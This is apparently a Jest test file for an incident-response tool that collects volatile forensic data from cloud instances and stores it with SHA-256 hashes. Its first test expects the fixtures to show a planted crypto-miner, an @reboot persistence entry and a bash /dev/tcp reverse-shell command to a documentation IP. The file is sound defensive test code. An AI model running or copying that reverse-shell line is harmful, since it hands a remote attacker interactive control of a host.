import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { s3Store } from '../../sandbox/s3-store';
import { checkCommand } from '../../tasks/check-command';
import { collectVolatileData } from '../../tasks/collect-volatile';
import type { Target } from '../../tasks/lib/case';
import { makeTestContext } from '../helpers/deps';
import type { TestContext } from '../helpers/deps';
import {
  EVIDENCE_BUCKET,
  LINUX,
  MEMBER,
  REGION,
  WINDOWS,
  factsFor,
  makeCase,
  scenarioWithWindows,
} from '../helpers/disk-and-memory';

const NAMES = ['processes.txt', 'sockets.txt', 'users.txt', 'logins.txt', 'modules.txt', 'scheduled-tasks.txt'];

function bucketObject(ctx: TestContext, target: Target, name: string): Buffer {
  const { path } = s3Store(ctx.env.sandbox).version(
    EVIDENCE_BUCKET,
    `cases/${makeCase().caseId}/${MEMBER}/${target.instanceId}/volatile/${name}`,
  );
  return readFileSync(path);
}

async function collect(ctx: TestContext, target: Target) {
  const kase = makeCase();
  const sent = await collectVolatileData(
    { case: kase, target, instance: factsFor(ctx.env.sandbox, target), urlExpirySeconds: 900 },
    ctx.deps,
  );
  return sent.command ? checkCommand({ case: kase, target, command: sent.command }, ctx.deps) : sent;
}

describe('CollectVolatileData → CheckCommand', () => {
  it('collects the Linux web server volatile data: the miner on 192.0.2.77:3333 and the reverse shell to 198.51.100.23:4444', async () => {
    const ctx = makeTestContext(scenarioWithWindows());
    const result = await collect(ctx, LINUX);
    expect(result.gaps).toEqual([]);
    const processes = bucketObject(ctx, LINUX, 'processes.txt').toString();
    expect(processes).toMatch(
      /\t[0-9a-f]{64}\t\/tmp\/\.X11-unix\/xmrig \(deleted\)\t\/tmp\/\.X11-unix\/xmrig -o 192\.0\.2\.77:3333/,
    );
    expect(processes).toContain('bash -i >& /dev/tcp/198.51.100.23/4444 0>&1');
    const sockets = bucketObject(ctx, LINUX, 'sockets.txt').toString();
    expect(sockets).toContain('ESTABLISHED\t10.20.1.57:49822\t192.0.2.77:3333\t4242');
    expect(sockets).toContain('ESTABLISHED\t10.20.1.57:51514\t198.51.100.23:4444\t5150');
    expect(sockets).toContain('LISTEN\t0.0.0.0:80');
    expect(bucketObject(ctx, LINUX, 'scheduled-tasks.txt').toString()).toContain('@reboot /tmp/.X11-unix/xmrig');
  });

  it.each([
    ['Linux', LINUX],
    ['Windows', WINDOWS],
  ])('records every %s volatile artifact with the SHA-256 of the bytes in the bucket', async (_os, target) => {
    const ctx = makeTestContext(scenarioWithWindows());
    await collect(ctx, target);
    const acquired = ctx.events.filter(
      (e) =>
        e.action === 'artifact.acquired' &&
        e.artifact?.key.includes('/volatile/') &&
        !e.artifact.key.endsWith('command-output.txt'),
    );
    expect(acquired.map((e) => e.artifact!.key.split('/').pop())).toEqual(NAMES);
    for (const event of acquired) {
      const bytes = bucketObject(ctx, target, event.artifact!.key.split('/').pop()!);
      expect(event.artifact).toMatchObject({
        bytes: bytes.length,
        sha256: createHash('sha256').update(bytes).digest('hex'),
      });
    }
  });

  it('records an offline agent as a gap and sends nothing', async () => {
    const scenario = scenarioWithWindows();
    scenario.accounts[1].regions[REGION].instances[1].ssm.online = false;
    const ctx = makeTestContext(scenario);
    const result = await collect(ctx, WINDOWS);
    expect(result.gaps).toEqual([
      expect.objectContaining({
        step: 'CollectVolatileData',
        reason: expect.stringContaining('SSM agent unavailable'),
      }),
    ]);
    expect(ctx.env.sandbox.callsOf('SSM', 'SendCommand')).toHaveLength(0);
  });

  it('records a failed command as a gap and keeps its output', async () => {
    const scenario = scenarioWithWindows();
    scenario.accounts[1].regions[REGION].instances[0].ssm.behaviour = 'fail';
    const ctx = makeTestContext(scenario);
    const result = await collect(ctx, LINUX);
    expect(result.gaps[0].reason).toContain('the command ended Failed');
    expect(ctx.artifacts.get(`${MEMBER}/${LINUX.instanceId}/volatile/command-output.txt`)!.bytes.toString()).toContain(
      'status Failed',
    );
    expect(ctx.events.filter((e) => e.action === 'artifact.abandoned')).toHaveLength(NAMES.length);
  });
});
